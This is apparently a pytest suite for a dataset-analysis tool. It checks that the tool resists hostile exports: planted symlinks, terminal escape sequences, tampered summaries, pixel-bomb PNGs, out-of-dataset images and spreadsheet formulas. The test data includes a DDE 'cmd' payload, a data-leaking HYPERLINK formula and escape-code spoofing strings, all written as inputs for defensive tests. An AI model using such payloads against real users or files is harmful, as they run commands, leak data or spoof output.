"""`djx analyze` of an export someone else made (a received tarball): it writes nothing through the
links packed into its `.analysis/` folder, prints the stat names safely, says where the summary
does not match the files, bounds the thumbnails' pixels, previews only the dataset's own images,
counts the values it leaves out, and writes CSV cells and a page that no viewer misreads."""
from __future__ import annotations

import csv
import json
import struct
import zlib
from pathlib import Path

from PIL import Image

import pytest

from djx.analyze import analyze
from djx.core.io.outputs import OutputPaths

OP = "text_length_filter"
pytestmark = pytest.mark.slow  # each draws its plots: a few seconds


def _record(i: int, stats: dict, images: list[str], text: str = "") -> dict:
    return {"text": text or f"sample {i}", "images": images, "__dj__pos__": i, "__dj__stats__": stats}


def _run(tmp_path: Path, stats: list[dict], images=None, summary: dict | None = None, texts=None) -> Path:
    """A received run: dataset ds/d.jsonl with ds/a.png, outputs out/x.* (every record kept, each
    naming images[i] or ds/a.png, with `stats`), and its summary (`summary` overrides fields)."""
    ds, out = tmp_path / "ds", tmp_path / "out"
    tmp_path.mkdir(exist_ok=True)
    ds.mkdir(exist_ok=True)
    out.mkdir(exist_ok=True)
    Image.new("RGB", (40, 30), (200, 10, 10)).save(ds / "a.png")
    (ds / "d.jsonl").write_text("")
    paths = OutputPaths.for_export(str(out / "x.jsonl"))
    with open(paths.export, "w") as f:
        for i, s in enumerate(stats):
            named = images[i % len(images)] if images else [str(ds / "a.png")]
            f.write(json.dumps(_record(i, s, named, (texts or {}).get(i, ""))) + "\n")
    Path(paths.dropped).write_text("")
    Path(paths.rejected).write_text("")
    n = len(stats)
    Path(paths.summary).write_text(json.dumps({
        "input": n, "kept": n, "dropped": 0, "rejected": 0, "dataset_path": str(ds / "d.jsonl"),
        "outputs": {"export": paths.export},
        "ops": [{"name": OP, "in": n, "kept": n, "dropped": 0, "rejected": 0, "seconds": 0.0}], **(summary or {})}))
    return out / "x.jsonl"


def _analyze(export: Path) -> tuple[list[str], str]:
    said: list[str] = []
    result = analyze(str(export), log=said.append)
    return said, Path(result.report).read_text(encoding="utf-8")


def test_links_planted_in_the_analysis_folder_are_replaced_not_written_through(tmp_path):
    export = _run(tmp_path, [{"text_len": 10 + i, "=cmd|' /C calc'!A0": 1} for i in range(5)])
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "thumbs").mkdir()
    folder = export.parent / "x.analysis"
    folder.mkdir()
    names = ["stats.csv", "report.html", "keep_rate.csv", "hist_text_len.png",
             f"keep_rate_0_{OP}_text_len.png"]
    for name in names:
        (victim / name).write_text("the user's own file\n")
        (folder / name).symlink_to(victim / name)
    (folder / "thumbs").symlink_to(victim / "thumbs")
    _analyze(export)
    for name in names:
        assert (victim / name).read_text() == "the user's own file\n", name
        assert not (folder / name).is_symlink() and (folder / name).stat().st_size > 0, name
    assert list((victim / "thumbs").iterdir()) == []
    assert not (folder / "thumbs").is_symlink() and any((folder / "thumbs").iterdir())
    assert not [p for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_the_printed_table_and_notes_escape_and_cut_stat_names(tmp_path):
    fake, long = "\x1b[2J\x1b[31mfake\x1b[0m\rcheck: passed\u202e", "n" * 5000
    export = _run(tmp_path, [{"text_len": 10, fake: 1, long: 2}] * 3, summary={"ops": []})
    said = _analyze(export)[0]
    printed = "\n".join(said)
    assert "\x1b" not in printed and "\r" not in printed and "\u202e" not in printed
    assert "\\x1b[2J" in printed  # shown, as an escape
    assert max(len(line) for line in said[0].splitlines()) < 200  # the table: names cut
    # named by no op of the run: listed in the note, escaped too
    export = _run(tmp_path / "b", [{"text_len": 10, fake: 1, long: 2}] * 3)
    note = next(line for line in _analyze(export)[0] if "other stat names" in line)
    assert "\x1b" not in note and "\\x1b" in note and len(note) < 400


def test_a_summary_that_the_files_do_not_bear_out_is_said_and_the_files_counts_shown(tmp_path):
    export = _run(tmp_path, [{"text_len": 10}] * 3, summary={
        "kept": 16, "outputs": {"export": "/elsewhere/h.jsonl"}, "rejected_by_code": {"<b>evil</b>": 3},
        "ops": [{"name": OP, "in": float("nan"), "kept": -5, "dropped": 1e308, "rejected": 0, "seconds": 0.0}]})
    said, page = _analyze(export)
    printed = "\n".join(said)
    assert "says kept 16, but the files hold kept 3, dropped 0, rejected 0" in printed
    assert "is of another export (/elsewhere/h.jsonl)" in printed
    assert "rejected_by_code counts 3 samples" in printed and "evil" not in page
    assert "has no usable ops (ops[0] has in = NaN, kept = -5, dropped = 1e+308, not counts)" in printed
    assert "says kept 16, but the files hold kept 3" in page and "nanpx" not in page


def _png_header_only(path: Path, width: int, height: int) -> None:
    """A PNG whose header claims width x height pixels (its image data is a few bytes)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))


def test_images_over_the_pixel_budget_are_not_decoded(tmp_path):
    (tmp_path / "ds").mkdir()
    _png_header_only(tmp_path / "ds" / "big.png", 13000, 13000)
    Image.new("RGB", (20, 20)).save(tmp_path / "ds" / "small.png")
    images = [[str(tmp_path / "ds" / "big.png")], [str(tmp_path / "ds" / "small.png")]]
    export = _run(tmp_path, [{"text_len": 10}] * 2, images=images, summary={"recipe": {"max_image_pixels": 100}})
    page = _analyze(export)[1]
    assert page.count("image too large to preview") >= 2  # 169 Mpx; and 400 px over the run's max_image_pixels


def test_images_outside_the_datasets_folders_are_not_previewed(tmp_path):
    private = tmp_path / "private"
    private.mkdir()
    Image.new("RGB", (20, 20), (1, 2, 3)).save(private / "secret.png")
    (tmp_path / "ds").mkdir()
    (tmp_path / "ds" / "link.png").symlink_to(private / "secret.png")
    export = _run(tmp_path, [{"text_len": 10}] * 2,
                  images=[[str(private / "secret.png"), str(tmp_path / "ds" / "a.png")], [str(tmp_path / "ds" / "link.png")]])
    page = _analyze(export)[1]
    assert page.count("outside the dataset&#39;s folders: not previewed") >= 2
    assert len(list((export.parent / "x.analysis" / "thumbs").iterdir())) == 1  # ds/a.png's only


def test_values_that_are_not_finite_numbers_are_counted_in_a_note(tmp_path):
    values = [64, 65, "64", None, True, [66, float("nan")], 10 ** 400]
    export = _run(tmp_path, [{"text_len": v} for v in values])
    said, _ = _analyze(export)
    printed = "\n".join(said)
    assert "text_len: 5 values not a finite number, not summarised" in printed
    row = next(line for line in said[0].splitlines() if line.startswith("text_len"))
    assert row.split()[1] == "3"  # 64, 65, 66


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path):
    export = _run(tmp_path, [{"text_len": -1 - i, '=HYPERLINK("http://x/?"&A1,"click")': 1, "@sum": 2}
                             for i in range(3)], summary={"ops": []})
    _analyze(export)
    with open(export.parent / "x.analysis" / "stats.csv", newline="") as f:
        rows = list(csv.reader(f))
    cells = {r[0]: r for r in rows[1:]}
    assert set(cells) == {"text_len", "'@sum", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"}
    assert cells["text_len"][4] == "-3.0"  # numbers as they are
    assert not any(c.startswith(("=", "+", "@")) for r in rows for c in r)


def test_the_page_holds_no_control_characters(tmp_path):
    export = _run(tmp_path, [{"text_len": 10, "a\x00b\x1b[31m\x85": 1}] * 3,
                  texts={0: "cap\x00tion \x1b[2J\r\x7f\x9b end"}, summary={"ops": []})
    page = _analyze(export)[1]
    assert not [c for c in page if (ord(c) < 32 and c not in "\t\n") or 0x7f <= ord(c) <= 0x9f]
    assert "cap\ufffdtion" in page


def test_op_rows_without_their_seconds_still_make_a_page(tmp_path):
    """A summary edited (or written by an older djx) without each op's seconds: the page leaves
    the cell empty rather than failing with a template error."""
    export = _run(tmp_path, [{"text_len": 10 + i} for i in range(3)],
                  summary={"ops": [{"name": OP, "in": 3, "kept": 3, "dropped": 0, "rejected": 0}]})
    _, page = _analyze(export)
    assert OP in page
